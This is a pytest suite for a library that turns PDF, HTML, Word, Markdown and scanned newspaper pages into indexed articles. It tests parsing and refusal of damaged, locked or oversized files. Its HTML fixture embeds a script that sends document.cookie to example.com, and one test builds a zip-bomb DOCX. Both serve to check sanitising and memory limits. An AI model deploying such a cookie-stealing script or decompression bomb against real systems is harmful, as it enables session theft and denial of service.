"""PDF, HTML, DOCX, Markdown and scans become articles as text dumps do."""

import io
import json
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pypdfium2
import pytest
from docx import Document
from docx.oxml import OxmlElement, parse_xml
from PIL import Image
from reportlab.pdfgen.canvas import Canvas

from rag import Index
from rag.errors import PageFormatError
from rag.pages import read_bytes
from rag.pdf import read_pdf
from rag.scans import read_scan
from rag.types import Page
from tests.setting import Box, docx_of, golden, pdf_of, scan_of

TITLES = [
    "织密“保障网”为职工幸福“加码”",
    "南京发布秦淮灯会最新提示",
    "扬州：全力开创产业工会工作崭新局面",
]


@pytest.fixture(scope="module")
def boxes() -> list[Box]:
    known = {item["title"]: item for item in golden()}
    return [Box.of(known[title]) for title in TITLES]


def told(page: Page) -> list[tuple[str, str, tuple[str, ...]]]:
    return [(article.title, article.subtitle, article.paragraphs) for article in page.articles]


def bare(text: str) -> str:
    return "".join(text.split())


@pytest.mark.parametrize("columns", [1, 2, 3, 4])
def test_a_pdf_gives_the_articles_that_its_columns_hold(boxes: list[Box], columns: int) -> None:
    """Headlines by their size, columns by their place, paragraphs by their indent."""
    (page,) = read_bytes(pdf_of(boxes, columns), "page.pdf")
    assert [(title, paragraphs) for title, _, paragraphs in told(page)] == [
        (box.title, box.paragraphs) for box in boxes
    ]
    assert [bare(article.subtitle) for article in page.articles] == [
        bare(box.subtitle) for box in boxes
    ]


def test_the_pdf_says_which_day_and_page_it_is(boxes: list[Box]) -> None:
    """The masthead's facts are the page's, and the masthead is no article."""
    (page,) = read_bytes(pdf_of(boxes, 3, masthead=True), "page.pdf")
    assert (page.newspaper, page.date, page.page_no) == ("江南日报", "2025-02-11", 3)
    assert [article.title for article in page.articles] == TITLES
    assert "江南日报" in "".join(page.rest)


def test_a_cut_off_pdf_is_refused_in_one_sentence(boxes: list[Box]) -> None:
    """What happened, where, and what to do; no traceback of the library."""
    data = pdf_of(boxes, 2)
    with pytest.raises(PageFormatError, match=r"^cut\.pdf 不是完好的 PDF"):
        read_bytes(data[: len(data) // 3], "cut.pdf")


def test_a_locked_pdf_asks_for_its_password_to_be_removed(boxes: list[Box]) -> None:
    """It is not called damaged: it is not."""
    with pytest.raises(PageFormatError, match="密码"):
        read_bytes(pdf_of(boxes, 2, password="secret"), "locked.pdf")


def pdf_of_pages(texts: list[str]) -> bytes:
    out = io.BytesIO()
    canvas = Canvas(out)
    for text in texts:
        canvas.drawString(72, 700, text)
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def texts_of(pages: list[list[Any]]) -> list[list[str]]:
    return [[line.text for line in page] for page in pages]


@pytest.mark.parametrize(
    ("language", "message"),
    [
        ("zh", "long.pdf 有 4 页，超过 3 页。请拆成几个文件。"),
        ("en", "long.pdf has 4 pages, more than 3. Split it into several files."),
    ],
)
def test_a_pdf_with_too_many_pages_is_refused_and_none_is_lost_silently(
    monkeypatch: pytest.MonkeyPatch, language: str, message: str
) -> None:
    """The limit is named, and what to do; a file that just keeps to it is read whole."""
    monkeypatch.setenv("WENBAO_LANG", language)
    monkeypatch.setattr("rag.pdf.MAX_PAGES", 3)
    texts = ["one", "two", "three", "four"]
    with pytest.raises(PageFormatError) as caught:
        read_bytes(pdf_of_pages(texts), "long.pdf")
    assert str(caught.value) == message
    assert texts_of(read_pdf(pdf_of_pages(texts[:3]), "page.pdf")) == [["one"], ["two"], ["three"]]


def test_a_pdf_page_whose_text_is_damaged_does_not_take_the_others_along(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """It is empty, the pages before and after it are read."""
    opened: list[Any] = []
    whole = pypdfium2.PdfPage.get_textpage

    def second_fails(page: Any) -> Any:
        opened.append(page)
        if len(opened) == 2:
            raise pypdfium2.PdfiumError("Failed to load text page.")
        return whole(page)

    monkeypatch.setattr(pypdfium2.PdfPage, "get_textpage", second_fails)
    pages = read_pdf(pdf_of_pages(["one", "two", "three"]), "page.pdf")
    assert texts_of(pages) == [["one"], [], ["three"]]


HTML = """<!DOCTYPE html><html><head><meta charset="{charset}"><title>要闻-江南日报</title>
<meta name="date" content="2025-02-11"><style>p {{ color: red }}</style></head><body>
<nav><a href="/">首页</a> <a href="/1">第1版</a></nav><h3>春节特稿</h3><h1>古城灯会今晚亮灯</h1><h2>持续到正月十八</h2>
<div id="content"><p>　　本报讯（记者 张三）一年一度的灯会<b>今晚</b>开幕。<br>　　市民须提前预约。</p>
<script>fetch("http://example.com/" + document.cookie)</script><p>活动持续到晚上十点。</p></div>
<footer>版权所有</footer></body></html>"""


@pytest.mark.parametrize("charset", ["utf-8", "gb18030"])
def test_an_html_edition_gives_its_article_and_keeps_menus_apart(charset: str) -> None:
    """Kicker and deck to the subtitle; scripts and styles are no text; nothing else is lost."""
    (page,) = read_bytes(HTML.format(charset=charset).encode(charset), "page.html")
    (article,) = page.articles
    assert (article.title, article.subtitle) == ("古城灯会今晚亮灯", "春节特稿\n持续到正月十八")
    assert article.paragraphs == (
        "本报讯（记者 张三）一年一度的灯会今晚开幕。",
        "市民须提前预约。",
        "活动持续到晚上十点。",
    )
    assert page.date == "2025-02-11"
    assert {"首页 第1版", "版权所有"} <= set(page.rest)
    assert "cookie" not in json.dumps(page.to_json())


def test_several_articles_of_an_html_page_stay_apart() -> None:
    """Headings of one rank open articles; the one above them is the page's."""
    parts = "".join(f"<h2>第{n}条新闻</h2><p>第{n}条的正文。</p>" for n in "一二三")
    (page,) = read_bytes(f"<html><body><h1>江南日报</h1>{parts}</body></html>".encode(), "p.html")
    assert [article.title for article in page.articles] == [
        "第一条新闻",
        "第二条新闻",
        "第三条新闻",
    ]
    assert page.rest == ("江南日报",)


def test_a_word_document_gives_its_articles(boxes: list[Box]) -> None:
    """Heading styles open articles."""
    (page,) = read_bytes(docx_of(boxes), "page.docx")
    assert told(page) == [(box.title, box.subtitle, box.paragraphs) for box in boxes]


def test_a_word_document_that_would_fill_the_memory_is_refused() -> None:
    """A small file can unpack to any size."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("word/document.xml", b" " * (257 * 2**20))
    with pytest.raises(PageFormatError, match="解压后超过"):
        read_bytes(data.getvalue(), "bomb.docx")


def harmed(docx: bytes, harm: Callable[[str, bytes], bytes]) -> bytes:
    """A Word document with its parts changed by name."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(docx)) as read,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed,
    ):
        for name in read.namelist():
            packed.writestr(name, harm(name, read.read(name)))
    return out.getvalue()


def test_a_word_document_whose_style_is_based_on_itself_is_read(boxes: list[Box]) -> None:
    """What a careless program writes is no endless loop."""

    def on_itself(name: str, part: bytes) -> bytes:
        if name != "word/styles.xml":
            return part
        text = part.decode("utf8")
        normal = re.search(r'<w:style [^>]*w:styleId="Normal"[^>]*>', text)
        assert normal is not None
        based = text[: normal.end()] + '<w:basedOn w:val="Normal"/>' + text[normal.end() :]
        return based.encode("utf8")

    (page,) = read_bytes(harmed(docx_of(boxes), on_itself), "page.docx")
    assert [bare(article.text) for article in page.articles] == [
        bare("".join(box.paragraphs)) for box in boxes
    ]


def saved(document: Any) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def test_a_table_in_a_cell_of_a_word_document_is_read() -> None:
    """Its rows stand where the cell stands, lines of the article."""
    document = Document()
    document.add_heading("比赛结果", 1)
    cell = document.add_table(1, 1).cell(0, 0)
    cell.text = "昨天的比分："
    inner = cell.add_table(2, 2)
    for at, text in enumerate(["甲队", "2", "乙队", "1"]):
        inner.cell(at // 2, at % 2).text = text
    (article,) = read_bytes(saved(document), "page.docx")[0].articles
    assert article.paragraphs == ("昨天的比分：", "甲队2", "乙队1")


def test_two_equal_cells_of_a_row_are_both_read_and_a_merged_one_once() -> None:
    """A score of three all keeps both of its threes."""
    document = Document()
    document.add_heading("比赛结果", 1)
    table = document.add_table(3, 3)
    for row, texts in enumerate([["半场", "", ""], ["3", "3", "6"], ["4", "", "1"]]):
        for cell, text in zip(table.rows[row].cells, texts, strict=True):
            cell.text = text
    table.cell(0, 0).merge(table.cell(0, 2))
    (article,) = read_bytes(saved(document), "page.docx")[0].articles
    assert article.paragraphs == ("半场", "3 3 6", "4 1")


def test_tables_nested_without_end_are_read_in_bounded_time() -> None:
    """The words of the innermost are there once each, however deep they stand."""
    document = Document()
    document.add_heading("比赛结果", 1)
    cell = document.add_table(1, 1).cell(0, 0)
    for depth in range(60):
        cell.text = f"第{depth}层"
        cell = cell.add_table(1, 1).cell(0, 0)
    # Each level would copy all of them.
    for _ in range(20_000):
        paragraph = OxmlElement("w:p")
        run, text = OxmlElement("w:r"), OxmlElement("w:t")
        text.text = "字"
        run.append(text)
        paragraph.append(run)
        cell._tc.append(paragraph)
    (article,) = read_bytes(saved(document), "page.docx")[0].articles
    depths = tuple(f"第{depth}层" for depth in range(60))
    assert article.paragraphs == (*depths, *["字"] * 20_000)


def test_headers_and_footers_of_a_word_document_tell_its_day_and_are_no_article() -> None:
    """Newspaper, day and page number are the page's; each line is kept once, beside the articles."""
    document = Document()
    section = document.sections[0]
    section.header.paragraphs[0].text = "江南日报\t2025年2月11日"
    section.different_first_page_header_footer = True
    section.first_page_header.paragraphs[0].text = "江南日报\t2025年2月11日"
    section.footer.add_table(1, 1, section.page_width).cell(0, 0).text = "第3版"
    document.add_heading("古城灯会今晚亮灯", 1)
    document.add_paragraph("市民须提前预约。")
    (page,) = read_bytes(saved(document), "page.docx")
    assert (page.newspaper, page.date, page.page_no) == ("江南日报", "2025-02-11", 3)
    assert told(page) == [("古城灯会今晚亮灯", "", ("市民须提前预约。",))]
    assert page.rest == ("江南日报\t2025年2月11日", "第3版")


def test_long_footers_leave_room_for_the_masthead_of_the_text() -> None:
    """Where to write to says no day; what stands at the top of the text does."""
    document = Document()
    document.sections[0].footer.paragraphs[0].text = "\n".join(
        f"联系我们{n}：{n}楼{n}室" for n in range(10)
    )
    document.add_paragraph("2025年2月11日 星期二 第3版")
    document.add_heading("古城灯会今晚亮灯", 1)
    document.add_paragraph("市民须提前预约。")
    (page,) = read_bytes(saved(document), "page.docx")
    assert (page.date, page.page_no) == ("2025-02-11", 3)


SPACES = " ".join(
    f'xmlns:{prefix}="http://schemas.{of}"'
    for prefix, of in [
        ("w", "openxmlformats.org/wordprocessingml/2006/main"),
        ("mc", "openxmlformats.org/markup-compatibility/2006"),
    ]
)
BOX = """<w:p {spaces}><w:r><w:t>灯会今晚开幕。</w:t></w:r><w:r><mc:AlternateContent>
<mc:Choice Requires="wps">{box}</mc:Choice><mc:Fallback>{box}</mc:Fallback></mc:AlternateContent></w:r></w:p>"""
BOXED = """<w:txbxContent><w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>另一条新闻</w:t></w:r></w:p>
<w:p><w:r><w:t>它的正文。</w:t></w:r></w:p></w:txbxContent>"""


def test_a_text_box_of_a_word_document_is_read_once() -> None:
    """Word writes it twice, for old programs too; its headings are headings."""
    document = Document()
    document.add_heading("古城灯会今晚亮灯", 1)
    document.add_paragraph("市民须提前预约。")
    document.element.body.insert(1, parse_xml(BOX.format(spaces=SPACES, box=BOXED)))
    (page,) = read_bytes(saved(document), "page.docx")
    assert told(page) == [
        ("古城灯会今晚亮灯", "", ("灯会今晚开幕。",)),
        ("另一条新闻", "", ("它的正文。", "市民须提前预约。")),
    ]


CONTROL = """<w:sdt {spaces}><w:sdtContent><w:p><w:r><w:t>市民须</w:t></w:r>
<w:ins><w:r><w:t>提前</w:t></w:r></w:ins><w:del><w:r><w:delText>临时</w:delText></w:r></w:del>
<w:moveFrom><w:r><w:t>今晚</w:t></w:r></w:moveFrom>
<w:r><w:ruby><w:rt><w:r><w:t>yù</w:t></w:r></w:rt><w:rubyBase><w:r><w:t>预</w:t></w:r></w:rubyBase></w:ruby></w:r>
<w:r><w:t>约。</w:t></w:r></w:p></w:sdtContent></w:sdt>"""


def test_bound_and_inserted_text_of_a_word_document_is_read_and_deleted_text_is_not() -> None:
    """A page reads as it does in Word."""
    document = Document()
    document.add_heading("古城灯会今晚亮灯", 1)
    document.element.body.insert(1, parse_xml(CONTROL.format(spaces=SPACES)))
    (page,) = read_bytes(saved(document), "page.docx")
    assert told(page) == [("古城灯会今晚亮灯", "", ("市民须提前预约。",))]


CONTENTS = """<w:sdt {spaces}><w:sdtContent><w:p><w:pPr><w:pStyle w:val="TOC1"/></w:pPr>
<w:r><w:t>古城灯会今晚亮灯</w:t><w:tab/><w:t>1</w:t></w:r></w:p></w:sdtContent></w:sdt>"""


def test_a_table_of_contents_of_a_word_document_is_no_article() -> None:
    """It is kept beside them, like the menu of an HTML page."""
    document = Document()
    document.styles.add_style("toc 1", 1).element.set(
        "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}styleId", "TOC1"
    )
    document.add_heading("古城灯会今晚亮灯", 1)
    document.add_paragraph("市民须提前预约。")
    document.element.body.insert(0, parse_xml(CONTENTS.format(spaces=SPACES)))
    (page,) = read_bytes(saved(document), "page.docx")
    assert told(page) == [("古城灯会今晚亮灯", "", ("市民须提前预约。",))]
    assert page.rest == ("古城灯会今晚亮灯\t1",)


def test_a_word_document_with_a_size_of_nothing_is_refused_in_one_sentence(
    boxes: list[Box],
) -> None:
    """The file is named, and the rest of a folder is read."""
    unsized = harmed(
        docx_of(boxes), lambda _, part: part.replace(b"<w:r>", b"<w:r><w:rPr><w:sz/></w:rPr>")
    )
    with pytest.raises(PageFormatError, match=r"^page\.docx 不是完好的 DOCX"):
        read_bytes(unsized, "page.docx")


def test_a_word_document_with_flipped_bits_is_refused_in_one_sentence(boxes: list[Box]) -> None:
    """The file is named and the rest of a folder is read, whatever the archive says of its parts."""
    sound = harmed(docx_of(boxes), lambda _, part: part)
    with zipfile.ZipFile(io.BytesIO(sound)) as archive:
        info = archive.getinfo("word/document.xml")
    start = info.header_offset + 30 + len("word/document.xml")
    flipped = sound[: start + 20] + bytes(40) + sound[start + 60 :]
    locked = bytearray(sound)
    locked[info.header_offset + 6] |= 1
    listed = sound.rindex(b"PK\x01\x02", 0, sound.rindex(b"word/document.xml"))
    locked[listed + 8] |= 1
    for data in (flipped, bytes(locked)):
        with pytest.raises(PageFormatError, match=r"^page\.docx 不是完好的 DOCX"):
            read_bytes(data, "page.docx")


def test_a_markdown_file_gives_its_articles() -> None:
    """Marks of Markdown are no part of the text."""
    text = "# 江南日报\n\n## 第一条\n\n正文**重点**。\n\n第二段。\n\n## 第二条\n\n正文。\n"
    (page,) = read_bytes(text.encode(), "page.md")
    assert told(page) == [("第一条", "", ("正文重点。", "第二段。")), ("第二条", "", ("正文。",))]


def test_a_folder_mixes_formats_and_a_bad_file_stops_nothing(
    tmp_path: Path, boxes: list[Box]
) -> None:
    """The others are read, and the bad one is named."""
    pages = tmp_path / "pages"
    pages.mkdir()
    (pages / "a.pdf").write_bytes(pdf_of(boxes[:1], 2))
    (pages / "b.html").write_text(HTML.format(charset="utf-8"), "utf8")
    (pages / "c.docx").write_bytes(b"PK\x03\x04 no archive")
    (pages / "d.png").write_bytes(b"\x89PNG\r\n\x1a\n no image")
    with Index.open(tmp_path / "index") as index:
        report = index.update([pages])
        titles = {stored.article.title for stored in index.articles()}
    assert titles == {TITLES[0], "古城灯会今晚亮灯"}
    assert sorted(Path(source).name for source, _ in report.failed) == ["c.docx", "d.png"]


def tiff_of(widths: list[int], **options: Any) -> bytes:
    """An image a width, told apart by it."""
    images = [Image.new("L", (width, 60), 255) for width in widths]
    out = io.BytesIO()
    images[0].save(out, "TIFF", save_all=True, append_images=images[1:], **options)
    return out.getvalue()


@pytest.fixture
def recognised(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Widths of the images that were recognised; the text of one is its width, and a narrow one has none."""
    seen: list[int] = []

    def engine(image: Any) -> SimpleNamespace:
        opened = Image.open(io.BytesIO(image)) if isinstance(image, bytes) else image
        opened.load()
        seen.append(opened.width)
        if opened.width < 100:
            return SimpleNamespace(boxes=None, txts=None, scores=None)
        box = [[0, 0], [90, 0], [90, 20], [0, 20]]
        return SimpleNamespace(boxes=[box], txts=[f"宽{opened.width}"], scores=[0.9])

    monkeypatch.setattr("rag.scans._engine", lambda: engine)
    return seen


def test_every_page_of_a_tiff_is_recognised(recognised: list[int]) -> None:
    """An archive scans an issue into one file; a blank page of it has no lines."""
    pages = read_scan(tiff_of([200, 50, 220, 240]), "issue.tif")
    assert texts_of(pages) == [["宽200"], [], ["宽220"], ["宽240"]]
    assert recognised == [200, 50, 220, 240]


def test_an_image_of_another_format_is_one_page(recognised: list[int]) -> None:
    """The pictures of an animation are no pages."""
    out = io.BytesIO()
    frames = [Image.new("L", (200, 60), shade) for shade in (0, 128, 255)]
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    assert texts_of(read_scan(out.getvalue(), "a.gif")) == [["宽200"]]
    assert recognised == [200]


def test_a_small_copy_in_a_tiff_is_no_page(recognised: list[int]) -> None:
    """Scanning programs put a thumbnail beside each page."""
    images = [Image.new("L", (width, 60), 255) for width in (200, 120, 220)]
    images[1].encoderinfo = {"tiffinfo": {254: 1}}
    out = io.BytesIO()
    images[0].save(out, "TIFF", save_all=True, append_images=images[1:])
    assert texts_of(read_scan(out.getvalue(), "issue.tif")) == [["宽200"], ["宽220"]]
    assert recognised == [200, 220]


def test_a_damaged_page_of_a_tiff_does_not_take_the_others_along(recognised: list[int]) -> None:
    """Only a file without any sound page is no sound image."""
    data = bytearray(tiff_of([200, 210, 220], compression="tiff_adobe_deflate"))
    starts = []
    with Image.open(io.BytesIO(data)) as image:
        for number in range(3):
            image.seek(number)
            starts.append(image.tag_v2[273][0])
    data[starts[1] : starts[1] + 8] = bytes(8)
    assert texts_of(read_scan(bytes(data), "issue.tif")) == [["宽200"], ["宽220"]]
    for start in starts:
        data[start : start + 8] = bytes(8)
    with pytest.raises(PageFormatError, match=r"^issue\.tif 不是完好的图片"):
        read_scan(bytes(data), "issue.tif")
    assert recognised == [200, 220]


def test_a_page_of_a_tiff_that_would_fill_the_memory_is_not_unpacked(
    recognised: list[int], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The bound of a single image holds for each of its pages."""
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 60 * 250)
    data = tiff_of([200, 1000, 220])
    assert texts_of(read_scan(data, "issue.tif")) == [["宽200"], ["宽220"]]
    assert recognised == [200, 220]


@pytest.mark.parametrize(
    ("language", "message"),
    [
        ("zh", "issue.tif 有不止 3 页。请拆成几个文件。"),
        ("en", "issue.tif has more than 3 pages. Split it into several files."),
    ],
)
def test_a_tiff_with_too_many_pages_is_refused_before_any_is_recognised(
    recognised: list[int], monkeypatch: pytest.MonkeyPatch, language: str, message: str
) -> None:
    """None is lost silently, and nobody waits for an error."""
    monkeypatch.setenv("WENBAO_LANG", language)
    monkeypatch.setattr("rag.scans.MAX_PAGES", 3)
    assert len(read_scan(tiff_of([200, 210, 220]), "issue.tif")) == 3
    recognised.clear()
    with pytest.raises(PageFormatError) as caught:
        read_scan(tiff_of([200, 210, 220, 230]), "issue.tif")
    assert str(caught.value) == message
    assert recognised == []


def test_without_character_recognition_a_tiff_says_what_is_missing(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """What to install is said, not that the image is damaged."""

    def missing() -> Any:
        raise ImportError("No module named 'rapidocr'", name="rapidocr")

    monkeypatch.setattr("rag.scans._engine", missing)
    with pytest.raises(ImportError, match="rapidocr"):
        read_scan(tiff_of([200, 210]), "issue.tif")


def test_each_page_of_a_tiff_is_a_page(recognised: list[int]) -> None:
    """In their order; one without text is none."""
    pages = read_bytes(tiff_of([200, 50, 220]), "issue.tif")
    assert [[article.text for article in page.articles] for page in pages] == [["宽200"], ["宽220"]]
    assert recognised == [200, 50, 220]


@pytest.mark.slow
def test_a_page_of_a_scanned_issue_reads_as_if_it_were_alone(boxes: list[Box]) -> None:
    """By offline recognition, the lines, places and sizes of an image a page."""
    scans = [Image.open(io.BytesIO(scan_of(pdf_of([box], 2)))) for box in boxes[1:]]
    pages = [scan.crop((0, 0, scan.width, 300)) for scan in scans]
    issue = io.BytesIO()
    pages[0].save(issue, "TIFF", save_all=True, append_images=pages[1:])
    read = read_scan(issue.getvalue(), "issue.tif")
    for lines, page in zip(read, pages, strict=True):
        alone = io.BytesIO()
        page.save(alone, "PNG")
        assert [lines] == read_scan(alone.getvalue(), "page.png")
    for lines, title in zip(read, TITLES[1:], strict=True):
        assert bare(title) in bare("".join(line.text for line in lines))


@pytest.mark.slow
def test_a_scan_gives_its_headlines_and_nearly_all_of_its_words(boxes: list[Box]) -> None:
    """The same page as an image, by offline recognition."""
    (page,) = read_bytes(scan_of(pdf_of(boxes, 3)), "page.png")
    assert [bare(article.title) for article in page.articles] == [bare(t) for t in TITLES]
    for article, box in zip(page.articles, boxes, strict=True):
        wanted = bare("".join(box.paragraphs))
        read = bare(article.text)
        pairs = {wanted[at : at + 4] for at in range(len(wanted) - 3)}
        assert sum(pair in read for pair in pairs) > 0.95 * len(pairs)


@pytest.mark.slow
def test_a_photo_without_text_says_so() -> None:
    """It is not taken for a page without articles."""
    data = io.BytesIO()
    Image.new("RGB", (600, 400), (90, 140, 90)).save(data, "PNG")
    with pytest.raises(PageFormatError, match=r"^meadow\.png .*没有认出文字"):
        read_bytes(data.getvalue(), "meadow.png")
